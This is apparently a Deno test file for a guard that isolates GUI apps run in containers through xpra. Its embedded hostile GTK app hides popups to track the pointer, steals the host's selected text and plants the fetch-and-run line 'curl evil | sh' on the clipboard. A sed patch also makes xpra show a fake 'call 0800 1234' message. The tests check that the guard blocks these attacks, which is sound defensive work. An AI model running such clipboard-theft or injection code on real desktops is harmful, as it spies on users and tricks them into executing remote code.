// An ordinary GTK app in a container, with an honest xpra: it lays a fence of popups that nobody sees over the host's
// screen, reads what is selected there, replaces what was copied, and covers the screen with a window whose title is out
// of sight. Each is shown to work with a client that somebody starts by hand, and not with attach.ts. On a display of the
// test's own.

import { assert, assertEquals, assertStringIncludes } from "@std/assert";
import { join } from "@std/path";
import type { ProcessResult } from "../../lib/base/errors.ts";
import { type RunningProcess, startProcess } from "../../lib/base/process.ts";
import type { Rectangle } from "../../lib/guard/xpra/geometry.ts";
import { eventually, mountsRoot, script, sh, startScript } from "./run.ts";
import { needed, testOnOneEngine } from "./sessions.ts";
import { pressIn, windowWith, withDisplay } from "./windows.ts";
import { type EngineName, shareContainer } from "./world.ts";

const nameOn = shareContainer("fence");

/** What is selected in a window of the host's. */
const secret = "hunter22";
/** A command with a line end. */
const command = "curl evil | sh\n";

/**
 * The app. As "fence", it lays a fence of popups, writes down where the pointer is seen, reads PRIMARY at each click,
 * and copies a command each second. As "cover", it has a dialog that is larger than the screen and belongs to a small
 * window, which then moves up.
 */
const app = `
import os
import sys

import gi
gi.require_version("Gtk", "3.0")
from gi.repository import Gdk, GLib, Gtk


def note(name, text):
    with open("/home/ubuntu/share/" + name, "a") as file:
        file.write(text + "\\n")


def seen(_, event):
    note("path", f"{event.x_root:.0f},{event.y_root:.0f}")


def clicked(*_):
    Gtk.Clipboard.get(Gdk.SELECTION_PRIMARY).request_text(lambda _, text: note("stolen", text or ""))


def lay_fence():
    if not os.path.exists("/home/ubuntu/share/go"):
        return True
    for number in range(190):
        popup = Gtk.Window(type=Gtk.WindowType.POPUP, app_paintable=True)
        popup.set_visual(popup.get_screen().get_rgba_visual())
        popup.add_events(Gdk.EventMask.ENTER_NOTIFY_MASK | Gdk.EventMask.BUTTON_PRESS_MASK)
        popup.connect("enter-notify-event", seen)
        popup.connect("button-press-event", clicked)
        popup.resize(4, 4)
        popup.move(number % 19 * 80 + 50, number // 19 * 80 + 50)
        popup.show_all()
    note("done", "laid")
    return False


def copy():
    Gtk.Clipboard.get(Gdk.SELECTION_CLIPBOARD).set_text(${JSON.stringify(command)}, -1)
    return True


def cover():
    dialog = Gtk.Window(title="cover", type_hint=Gdk.WindowTypeHint.DIALOG, gravity=Gdk.Gravity.STATIC)
    dialog.set_transient_for(main)
    dialog.set_size_request(8000, 3000)
    dialog.move(-3000, 0)
    dialog.show_all()
    GLib.timeout_add(3000, lambda: main.move(100, 60))
    GLib.timeout_add(5000, lambda: note("done", "covered"))


main = Gtk.Window(title="main")
main.move(1400, 700)
main.resize(150, 100)
main.show_all()
if sys.argv[1] == "fence":
    GLib.timeout_add(100, lay_fence)
    GLib.timeout_add(1000, copy)
else:
    GLib.timeout_add(2000, cover)
Gtk.main()
`;

/** A display with the app on it, and a terminal of the host's that has the keyboard. */
interface Shown {
  env: { DISPLAY: string };
  /** What the app has written down: the lines of a file in its share. */
  noted(name: string): Promise<string[]>;
  clipboard(): Promise<string>;
}

/** Shows the app by a client, and a terminal that has the keyboard. Something is selected there, and something copied. */
async function besideTerminal(
  engine: EngineName,
  part: "fence" | "cover",
  start: (engine: EngineName, env: { DISPLAY: string }) => RunningProcess,
  action: (shown: Shown) => Promise<void>,
): Promise<string> {
  const name = nameOn(engine);
  const share = join(mountsRoot, name, "share");
  await Deno.writeTextFile(join(share, "app.py"), app);
  await Promise.all(["path", "stolen", "done", "go"].map((file) => Deno.remove(join(share, file)).catch(() => {})));
  const noted = async (file: string): Promise<string[]> =>
    (await Deno.readTextFile(join(share, file)).catch(() => "")).split("\n").filter(Boolean);
  let said = "";
  await withDisplay(async (env) => {
    const terminal = startProcess(["xterm", "-T", "bank", "-geometry", "80x10+50+800", "-e", "sleep", "600"], { env });
    const started = await script("attach", engine, [
      ...channels,
      "--detached",
      "--session=fence",
      name,
      `python3 /home/ubuntu/share/app.py ${part}`,
    ], { env });
    assertEquals(started.code, 0, started.stderr);
    const client = start(engine, env);
    try {
      // Popups may be near a window of the app's, which the window manager puts anywhere.
      const main = await windowWith("main", { env });
      await eventually("the app's window in its corner", async () => {
        await sh(["xdotool", "windowmove", main, "1400", "700"], { env });
        return (await placeOf("main", env)).x > 1300;
      });
      await Deno.writeTextFile(join(share, "go"), "");
      const bank = await windowWith("^bank$", { env });
      await sh(["xdotool", "windowactivate", "--sync", bank], { env });
      for (const [selection, text] of [["primary", secret], ["clipboard", "of the host"]]) {
        await sh(["xclip", "-selection", selection!, "-in"], { env, stdin: { text: text! }, output: "inherit" });
      }
      await eventually("the app's windows", async () => (await noted("done")).length > 0);
      await action({
        env,
        noted,
        // Who has the clipboard may take long to answer on a busy machine.
        clipboard: () => sh(["sh", "-c", "timeout 20 xclip -selection clipboard -out || true"], { env }),
      });
    } finally {
      client.kill("SIGINT");
      said = (await client.ended).stderr;
      await script("attach", engine, ["--stop", name, "--all"]);
      terminal.kill("SIGTERM");
      await terminal.ended;
    }
  });
  return said;
}

const channels = ["--preset=isolated", "--allow=clipboard"];

/** Moves the pointer over other windows, by way of forty popups, and clicks at the last one. */
async function wander(env: { DISPLAY: string }): Promise<void> {
  const stops = Array.from({ length: 40 }, (_, number) => [number % 10 * 80 + 52, Math.floor(number / 10) * 80 + 52]);
  await sh(["xdotool", ...stops.flatMap((at) => ["mousemove", ...at.map(String), "sleep", "0.05"]), "click", "1"], {
    env,
  });
}

/** The screen of {@linkcode withDisplay}. */
const screen = { width: 1600, height: 900 };

/** Where a window is on the screen, without its frame. */
async function placeOf(title: string, env: { DISPLAY: string }): Promise<Rectangle> {
  const about = await sh(["xwininfo", "-id", await windowWith(title, { env })], { env });
  const number = (name: string): number => Number(new RegExp(`${name}: +(-?\\d+)`).exec(about)![1]);
  return {
    x: number("Absolute upper-left X"),
    y: number("Absolute upper-left Y"),
    width: number("Width"),
    height: number("Height"),
  };
}

function everythingOf({ stdout, stderr }: ProcessResult): string {
  return stdout + stderr;
}

/** Starts a client of the session without attach.ts, as somebody may by hand. */
function startByHand(engine: EngineName, env: { DISPLAY: string }): RunningProcess {
  const socket = join(mountsRoot, nameOn(engine), "xpra", "fence");
  const closed = ["audio", "notifications", "mmap", "webcam", "opengl", "splash"].map((it) => `--${it}=no`);
  return startProcess(["xpra", "attach", `socket:${socket}`, "--title=@title@ by hand", ...closed], { env });
}

function startAttach(engine: EngineName, env: { DISPLAY: string }): RunningProcess {
  return startScript("attach", engine, [...channels, "--session=fence", nameOn(engine)], { env });
}

testOnOneEngine(
  "hostile: unseen popups tell where the pointer is and what is selected, and a command is copied, without the guard",
  needed,
  async (engine) => {
    await besideTerminal(engine, "fence", startByHand, async ({ env, noted, clipboard }) => {
      await eventually("the command on the host's clipboard", async () => `${await clipboard()}\n` === command);
      await wander(env);
      await eventually("what is selected", async () => (await noted("stolen")).includes(secret));
      const path = await noted("path");
      assert(path.length >= 20, `${path.length}`);
    });
  },
);

testOnOneEngine(
  "hostile: unseen popups tell nothing through attach.ts, and nothing is copied while the user works elsewhere",
  needed,
  async (engine) => {
    const said = await besideTerminal(engine, "fence", startAttach, async ({ env, noted, clipboard }) => {
      await wander(env);
      // The app copies each second.
      await new Promise((resolve) => setTimeout(resolve, 2_500));
      assertEquals([await noted("path"), await noted("stolen"), await clipboard()], [[], [], "of the host"]);
      // What the app copies while the user works in it is his.
      const window = await windowWith(`\\[${nameOn(engine)}\\] main`, { env });
      await eventually("the app's text on the host", async () => {
        await pressIn(window, env);
        return `${await clipboard()}\n` === command;
      });
    });
    assertStringIncludes(said, 'The container sends "clipboard-token", which is dropped');
  },
);

testOnOneEngine(
  "hostile: a window is far larger than the screen, without the guard",
  needed,
  async (engine) => {
    await besideTerminal(engine, "cover", startByHand, async ({ env }) => {
      const { width, height } = await placeOf("cover", env);
      assert(width > screen.width && height > screen.height, JSON.stringify({ width, height }));
    });
  },
);

testOnOneEngine(
  "hostile: a window is no larger than the screen through attach.ts, and has its title there",
  needed,
  async (engine) => {
    await besideTerminal(engine, "cover", startAttach, async ({ env }) => {
      const { x, y, width, height } = await placeOf("cover", env);
      assert(x >= 0 && y >= 16 && width <= screen.width && height <= screen.height, `${[x, y, width, height]}`);
    });
  },
);

/** Makes the container's xpra hostile, as root: it ends a connection with words of its own at the first repaint. */
const replaceXpra = `
cd "$(python3 -c 'import os, xpra; print(os.path.dirname(xpra.__file__))')"
sed -i '/^    def damage(self, wid/a\\        if self.hello_sent: self.send("disconnect", "error: call 0800 1234", "now")' server/source/window.py
grep -q 0800 server/source/window.py
`;

testOnOneEngine("hostile: an xpra ends a session in its own words only without the guard", needed, async (engine) => {
  const name = nameOn(engine);
  await sh([engine, "exec", name, "--", "/bin/sh", "-ec", replaceXpra]);
  await withDisplay(async (env) => {
    const options = [...channels, "--detached", "--session=fence", name, "xclock -update 1"];
    const started = await script("attach", engine, options, { env });
    assertEquals(started.code, 0, started.stderr);
    const byHand = startByHand(engine, env);
    assertStringIncludes(everythingOf(await byHand.ended), "call 0800 1234");
    const said = everythingOf(await startAttach(engine, env).ended);
    assertStringIncludes(said, "server error");
    assert(!said.includes("0800"), said);
    await script("attach", engine, ["--stop", name, "--all"]);
  });
});
